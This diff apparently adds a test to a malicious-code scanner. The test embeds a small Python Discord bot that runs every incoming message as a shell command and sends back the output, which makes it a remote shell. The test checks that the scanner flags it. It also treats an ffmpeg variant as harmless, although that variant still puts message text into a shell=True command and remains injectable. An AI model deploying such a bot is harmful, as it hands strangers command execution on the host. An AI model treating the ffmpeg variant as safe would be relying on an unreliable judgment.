@@ -72,3 +72,26 @@ test("a library that reads its caller's source through the call stack and posts 
   assert.equal(exfiltration?.severity, 'high', 'sent to a hard-coded IP address');
   assert.match(exfiltration!.message, /calling program's files/);
 });
+
+test('a chat bot that hands a shell the command lines it is sent is a remote shell; one running its own commands is not', () => {
+  const bot = [
+    'import subprocess, discord',
+    'client = discord.Client(intents=discord.Intents.default())',
+    'async def execute(command):',
+    '    p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)',
+    '    return p.communicate()[0]',
+    '@client.event',
+    'async def on_message(message):',
+    '    await message.channel.send(await execute(message.content))',
+  ].join('\n');
+  const shell = ruleOf(findings(bot), 'reverse-shell');
+  assert.equal(shell?.severity, 'high');
+  assert.equal(shell?.line, 4);
+  const own = bot.replace(
+    'subprocess.Popen(command, shell=True',
+    'subprocess.Popen(f"ffmpeg -i {command} out.mp3", shell=True',
+  );
+  assert.equal(ruleOf(findings(own), 'reverse-shell'), undefined, 'the program is written out: ffmpeg');
+  const list = bot.replace('subprocess.Popen(command, shell=True', 'subprocess.Popen(["yt-dlp", command]');
+  assert.equal(ruleOf(findings(list), 'reverse-shell'), undefined, 'an argument list runs no shell');
+});
